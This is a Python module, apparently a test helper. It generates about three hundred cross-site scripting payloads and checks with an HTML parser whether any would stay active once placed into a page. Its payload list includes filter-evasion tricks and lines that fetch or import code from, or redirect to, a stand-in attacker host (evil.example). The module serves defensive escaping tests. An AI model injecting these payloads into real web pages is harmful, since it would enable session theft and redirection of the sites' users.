"""Three hundred ways to smuggle a script into a page: every frame that gets out of a text, with every act.

`fragments()` go into free text, one field at a time or many at once; `found_alive` reads a page as a browser
does and says what of them would run or load something.
"""

from html.parser import HTMLParser

#: What each of them would do; the word is looked for in attributes and elements.
MARK = "pwned"
_ACTS = (
    f"alert('{MARK}')",
    f"fetch('//evil.example/{MARK}')",
    f"eval(atob('{MARK}'))",
    f"document.title='{MARK}'",
    f"import('//evil.example/{MARK}.js')",
    f"top['loc'+'ation']='//evil.example/{MARK}'",
)
#: Ways out of a text, an attribute, a comment, a textarea, a script, a style; and into an element that acts.
_FRAMES = (
    "<script>{act}</script>",
    "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>{act}",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "</p></div></main><script>{act}</script>",
    "--><script>{act}</script><!--",
    "]]><script>{act}</script>",
    "</script><script>{act}</script>",
    "</style><script>{act}</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<script\x0b>{act}</script\n>",
    "<script/x>{act}</script>",
    '"><script>{act}</script>',
    "'><script>{act}</script>",
    '" autofocus onfocus="{act}',
    "' autofocus onfocus='{act}",
    '" onmouseover="{act}" x="',
    "` onmouseover=`{act}` x=`",
    '"><img src=x onerror="{act}">',
    "<img src=x onerror={act}>",
    "<img/src=x/onerror={act}>",
    '<img src="javascript:{act}">',
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    '<svg><a xlink:href="javascript:{act}"><text>x</text></a></svg>',
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<math><mtext><script>{act}</script></mtext></math>",
    '<math><mi xlink:href="javascript:{act}">x</mi></math>',
    "<body onload={act}>",
    '<iframe src="javascript:{act}"></iframe>',
    '<iframe srcdoc="<script>{act}</script>"></iframe>',
    '<object data="javascript:{act}"></object>',
    '<embed src="javascript:{act}">',
    '<a href="javascript:{act}">x</a>',
    '<a href="java\tscript:{act}">x</a>',
    '<a href="data:text/html,<script>{act}</script>">x</a>',
    '<form action="javascript:{act}"><button>x</button></form>',
    '<button formaction="javascript:{act}">x</button>',
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>x</details>",
    "<video><source onerror={act}></video>",
    "<audio src=x onerror={act}></audio>",
    '<meta http-equiv="refresh" content="0;url=javascript:{act}">',
    '<link rel="stylesheet" href="//evil.example/pwned.css">{act}',
    "<style>@import '//evil.example/pwned.css';</style>{act}",
    '<base href="//evil.example/pwned/">{act}',
    "<template><script>{act}</script></template>",
    "<marquee onstart={act}>x</marquee>",
    "{{% {act} %}}{{{{ {act} }}}}",
    "&lt;script&gt;{act}&lt;/script&gt;&#60;script&#62;{act}",
)
#: Elements that no text of a resident may ever become.
_ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "link",
    "style",
    "meta",
    "svg",
    "math",
    "img",
    "template",
}


def fragments() -> list[str]:
    return [frame.format(act=act) for act in _ACTS for frame in _FRAMES]


def legible() -> list[str]:
    """Those without the signs that a form refuses by itself."""
    return [fragment.replace("\x0b", " ") for fragment in fragments()]


class _Alive(HTMLParser):
    """Elements and attributes that carry the mark, or act on their own."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            carries = MARK in (value or "") or "evil.example" in (value or "")
            if name.startswith("on") or (carries and not (tag == "input" and name == "value")):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in _ACTIVE and any("evil" in (value or "") for _name, value in attrs):
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem and MARK in data:
            self.found.append(f"{self.cdata_elem}: {data[:80]}")


def found_alive(html: str) -> list[str]:
    """What of the payloads on a page is no text. Empty: all of it is inert."""
    parser = _Alive()
    parser.feed(html)
    parser.close()
    return parser.found
